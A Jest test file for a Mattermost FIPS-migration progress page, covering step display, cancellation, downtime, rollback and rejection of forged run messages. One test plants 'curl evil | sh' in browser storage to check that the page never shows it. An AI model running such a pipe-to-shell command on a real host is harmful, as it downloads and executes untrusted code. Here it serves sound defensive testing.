import React from 'react';
import {jest} from '@jest/globals';
import {render, screen, waitFor, within} from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import type {RunEventBody} from '@fips-readiness/core';
import {ServerProblem} from '../client/server_problem.ts';
import {DrawnPage} from '../testing/draw_page.tsx';
import {IDS, KEYS, makeReplyPosts, OTHER_KEYS} from '../testing/fake_server.ts';
import type {FakeServer} from '../testing/fake_server.ts';
import {findAccessibilityProblems} from '../testing/find_accessibility_problems.ts';
import {makeReadyServer, readRequests} from '../testing/ready_server.ts';
import {KIT, openRun, RUN_ID, runReply, stepsThrough, timeEvents} from '../../../test/samples/run.ts';

jest.setTimeout(30_000);

beforeEach(() => localStorage.clear());

/** The agent tells of a run, one reply an event as it does. */
function tell(fake: FakeServer, bodies: readonly RunEventBody[], lastAtMs = Date.now()): void {
    for (const event of timeEvents(bodies, lastAtMs)) {
        fake.state.posts.push(...makeReplyPosts(runReply([event]), '', KEYS.secret));
    }
}

async function draw(fake: FakeServer, rhythm = {}) {
    const drawn = render(<DrawnPage server={fake.server} rhythm={rhythm} />);
    await screen.findByRole('heading', {level: 2});
    return drawn;
}

const RECREATING: readonly RunEventBody[] = [
    openRun(),
    ...stepsThrough('edit'),
    {kind: 'step_begun', step: 'recreate'},
];
const heading = () => screen.getByRole('heading', {level: 2}).textContent;
const steps = () => within(screen.getByRole('region', {name: 'Steps'})).getAllByRole('listitem');

it('shows the steps with what came of them, and what is to come', async () => {
    const fake = makeReadyServer();
    tell(fake, [openRun(), ...stepsThrough('backup'), {kind: 'step_begun', step: 'rehearse'}]);
    const {container} = await draw(fake);
    expect(heading()).toBe('Swapping to the FIPS image');
    expect(screen.getByText(/@maria/).textContent).toMatch(/plan 7f3a7f3a…7f3a · 1 risk accepted/);
    expect(
        steps()
            .map((step) => step.textContent)
            .slice(3, 6),
    ).toEqual([
        expect.stringMatching(/^Save the database, donedumped and verified.*812 tables with data0:01$/),
        expect.stringMatching(/^Rehearse alongside the live site, now0:0\d$/),
        expect.stringMatching(/^Edit the project’s files, waiting$/),
    ]);
    expect(screen.getByText('0:04 to 0:07 of downtime ahead')).toBeVisible();
    expect(screen.getByText(/At “Recreate the container”, Mattermost goes down/)).toBeVisible();
    expect(screen.getByRole('group', {name: 'Roll back the run on the host'}).textContent).toBe(
        `sh ${KIT}/rollback.sh`,
    );
    expect(within(screen.getByRole('navigation')).getByText(/Swap/).closest('li')?.getAttribute('aria-current')).toBe(
        'step',
    );
    expect(await findAccessibilityProblems(container)).toEqual([]);
});

it('is cancelled while nothing has changed', async () => {
    const fake = makeReadyServer();
    tell(fake, [openRun(), {kind: 'step_begun', step: 'rescue_kit'}]);
    await draw(fake);
    await userEvent.click(screen.getByRole('button', {name: 'Cancel the run'}));
    await waitFor(() => expect(readRequests(fake)).toMatchObject([{kind: 'cancel', runId: RUN_ID}]));
});

it('cannot be cancelled after the first change', async () => {
    const fake = makeReadyServer();
    tell(fake, RECREATING);
    await draw(fake);
    expect(screen.queryByRole('button', {name: 'Cancel the run'})).toBeNull();
    expect(screen.getByText(/Too late to cancel/)).toBeVisible();
});

it('the silence is counted and shown as normal, and the page goes on when the server is back', async () => {
    const fake = makeReadyServer();
    tell(fake, RECREATING, Date.now() - 3_000);
    const {container} = await draw(fake, {runMs: 20});
    expect(screen.getByRole('timer').textContent).toMatch(/^Down for up to 0:0[3-9]$/);
    expect(screen.getByText('of 0:01 to 0:07 expected')).toBeVisible();
    expect(screen.getByText(/shows no progress until it is up again. That is normal/)).toBeVisible();
    fake.state.problems = {fetchPosts: new ServerProblem('offline'), fetchStatus: new ServerProblem('offline')};
    expect(await screen.findByText(/Mattermost is not answering now/, {}, {timeout: 10_000})).toBeVisible();
    expect(screen.queryByRole('alert')).toBeNull();
    expect(screen.getByRole('group', {name: 'Roll back the run on the host'})).toBeVisible();
    expect(await findAccessibilityProblems(container)).toEqual([]);
    fake.state.problems = {};
    fake.state.clientConfig = {...fake.state.clientConfig, IsFipsEnabled: 'true'};
    const end: RunEventBody = {
        kind: 'closed',
        end: 'succeeded',
        because: 'all_steps_done',
        downMs: 5_200,
        frontDownMs: null,
    };
    fake.state.posts = fake.state.posts.slice(0, 1);
    tell(fake, [openRun(), ...stepsThrough('finish'), end]);
    await waitFor(() => expect(heading()).toBe('Runs a FIPS build'), {timeout: 15_000});
    expect(screen.getByRole('button', {name: /Moved to the FIPS image/})).toBeVisible();
    expect(localStorage.getItem('fips-readiness.rescue')).toBeNull();
});

it('says each step to screen readers', async () => {
    const fake = makeReadyServer();
    tell(fake, [openRun(), {kind: 'step_begun', step: 'rescue_kit'}]);
    await draw(fake, {runMs: 20});
    fake.state.posts = fake.state.posts.slice(0, 1);
    tell(fake, [openRun(), ...stepsThrough('rescue_kit')]);
    expect(await screen.findByText(/Write the rescue kit: written/, {}, {timeout: 10_000})).toBeVisible();
});

it('the way out survives a reload while the server does not answer', async () => {
    const fake = makeReadyServer();
    tell(fake, RECREATING);
    const {unmount} = await draw(fake);
    unmount();
    fake.state.problems.fetchMe = new ServerProblem('offline');
    const {container} = render(<DrawnPage server={fake.server} />);
    const command = await screen.findByRole('group', {name: 'Roll back the run on the host'});
    expect(command.textContent).toBe(`sh ${KIT}/rollback.sh`);
    expect(await findAccessibilityProblems(container)).toEqual([]);
});

it('what somebody else wrote into the browser’s store is not shown', async () => {
    localStorage.setItem(
        'fips-readiness.rescue',
        JSON.stringify({runId: 'x', kit: 'curl evil | sh', host: '', heardAt: ''}),
    );
    const fake = makeReadyServer();
    fake.state.problems.fetchMe = new ServerProblem('offline');
    render(<DrawnPage server={fake.server} />);
    await screen.findByRole('alert');
    expect(screen.queryByText(/evil/)).toBeNull();
});

it('a run on its way back says so', async () => {
    const fake = makeReadyServer();
    tell(fake, [
        ...RECREATING,
        {kind: 'step_done', step: 'recreate', outcome: 'recreated', data: {container: 'm'}},
        {kind: 'step_begun', step: 'wait'},
        {kind: 'step_failed', step: 'wait', reason: 'crash_loop', data: {restarts: 3}, consequence: 'roll_back'},
        {kind: 'turned_back', because: 'crash_loop'},
        {kind: 'back_begun', step: 'restore_files'},
    ]);
    const {container} = await draw(fake);
    expect(heading()).toBe('Rolling back');
    expect(
        steps()
            .map((step) => step.textContent)
            .slice(7),
    ).toEqual([
        expect.stringMatching(/failed.*again and again/),
        expect.stringMatching(/^Verify in layers, not started/),
        expect.stringMatching(/^Finish, not started/),
        expect.stringMatching(/^Restore the old files, now/),
    ]);
    expect(await findAccessibilityProblems(container)).toEqual([]);
});

it('a rollback that waits says what is in its way', async () => {
    const fake = makeReadyServer();
    tell(fake, [
        ...RECREATING,
        {kind: 'turned_back', because: 'not_ready'},
        {kind: 'back_begun', step: 'restore_password'},
        {kind: 'back_waits', step: 'restore_password', reason: 'database_paused', data: {container: 'chat-db-1'}},
    ]);
    await draw(fake);
    expect(screen.getByText(/container chat-db-1 is paused. Unpause it/)).toBeVisible();
});

it('a second admin without rights sees the same, and no button', async () => {
    const me = {id: 'v'.repeat(26), username: 'viewer', roles: 'system_read_only_admin system_user', auth_service: ''};
    const fake = makeReadyServer({me});
    tell(fake, [openRun(), {kind: 'step_begun', step: 'rescue_kit'}]);
    await draw(fake);
    expect(heading()).toBe('Swapping to the FIPS image');
    expect(screen.queryByRole('button', {name: 'Cancel the run'})).toBeNull();
});

// security.md rule 1.
it.each([
    ['with another key', OTHER_KEYS.secret, {}],
    ['by another author', KEYS.secret, {user_id: IDS.stranger}],
    ['through a webhook', KEYS.secret, {props: {from_bot: 'true', from_webhook: 'true'}}],
    ['with an overridden name', KEYS.secret, {props: {from_bot: 'true', override_username: 'fips-agent'}}],
])('news of a run %s shows nothing and no command', async (_name, secret, change) => {
    const fake = makeReadyServer();
    fake.state.posts.push(...makeReplyPosts(runReply(timeEvents(RECREATING)), '', secret, change));
    await draw(fake);
    expect(heading()).not.toMatch(/Swapping/);
    expect(screen.queryByText(/rollback\.sh/)).toBeNull();
    expect(localStorage.getItem('fips-readiness.rescue')).toBeNull();
});

it('a replayed event changes nothing', async () => {
    const fake = makeReadyServer();
    tell(fake, [openRun(), ...stepsThrough('pull')]);
    fake.state.posts.push(...makeReplyPosts(runReply(timeEvents([openRun()])), '', KEYS.secret));
    await draw(fake);
    expect(steps().filter((step) => /, done/.test(step.textContent ?? ''))).toHaveLength(2);
});
